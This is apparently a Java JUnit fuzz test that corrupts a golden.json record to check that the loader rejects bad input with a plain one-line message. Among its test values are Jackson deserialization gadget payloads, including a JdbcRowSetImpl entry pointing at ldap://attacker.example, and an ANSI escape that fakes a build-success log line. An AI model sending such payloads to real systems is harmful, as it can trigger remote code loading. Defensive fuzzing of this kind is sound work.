package io.github.lstmforecast.golden;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.github.lstmforecast.Damage;
import io.github.lstmforecast.SafeText;
import io.github.lstmforecast.Tries;
import io.github.lstmforecast.gate.Finding;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class GoldenFuzzTest {
    private static final int FILES = Tries.of(4000);
    private static final String SYNTAX = "{}[]\":,0123456789.eE-+ ntf\\@";
    private static final Pattern VALUE = Pattern.compile("(?<=: )[^\\[{,\\n]+|(?<=\\n      )-?[0-9][^,\\n]*");
    private static final Pattern KEY = Pattern.compile("\"[^\"]*\"(?= :)");

    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "-1",
            "1e999",
            "NaN",
            "2147483648",
            "1e-400",
            "9".repeat(900),
            "9".repeat(1100),
            "\"\"",
            "\" \"",
            "\"!!!\"",
            "\"\\u001b[2J\\n[INFO] BUILD SUCCESS\"",
            "\"" + "x".repeat(100_000) + "\"",
            "[]",
            "{}",
            "[[[[[[[[[[]]]]]]]]]]",
            "[".repeat(1500),
            "{ \"@class\" : \"javax.script.ScriptEngineManager\" }",
            "[ \"com.sun.rowset.JdbcRowSetImpl\", { \"dataSourceName\" : \"ldap://attacker.example/x\" } ]");

    @TempDir
    Path folder;

    private final Random random = new Random(1);
    private final Damage damage = new Damage(random, SYNTAX);
    private int read;

    @Test
    void whatever_a_record_holds_it_is_compared_or_rejected_with_a_message_of_one_line() throws Exception {
        Golden now = Goldens.golden();
        new Golden(now.model(), now.record().accepted(new Acceptance("2026-11-24", "Linux amd64", "the first")))
                .write(folder, Golden.NAME);
        String sound = Files.readString(folder.resolve("golden.json"));

        for (int i = 0; i < FILES; i++) {
            Files.write(folder.resolve("golden.json"), wrong(sound));
            assertTimeoutPreemptively(Duration.ofMinutes(1), () -> tryOne(now));
        }

        System.out.println(FILES + " golden records, of which " + read + " were compared");
        assertThat(read).isBetween(FILES / 50, FILES / 2);
    }

    private void tryOne(Golden now) {
        try {
            assertThat(Golden.load(folder)
                            .compare(now, GoldenTolerance.SAME_BITS)
                            .findings())
                    .extracting(Finding::message)
                    .allMatch(SafeText::isPlain);
            read++;
        } catch (GoldenException e) {
            assertThat(e.getMessage())
                    .startsWith("golden.")
                    .hasSizeLessThan(3000)
                    .matches(SafeText::isPlain);
        }
    }

    private byte[] wrong(String sound) {
        byte[] bytes = sound.getBytes(StandardCharsets.UTF_8);
        return switch (random.nextInt(4)) {
            case 0 -> damage.text(bytes);
            case 1 -> damage.bytes(bytes);
            case 2 -> replaced(VALUE, sound, VALUES.get(random.nextInt(VALUES.size())));
            default -> replaced(KEY, sound, random.nextBoolean() ? "\"@class\"" : "\"\\u001b[2J\"");
        };
    }

    private byte[] replaced(Pattern what, String text, String by) {
        List<MatchResult> matches = what.matcher(text).results().toList();
        MatchResult match = matches.get(random.nextInt(matches.size()));
        return (text.substring(0, match.start()) + by + text.substring(match.end())).getBytes(StandardCharsets.UTF_8);
    }
}
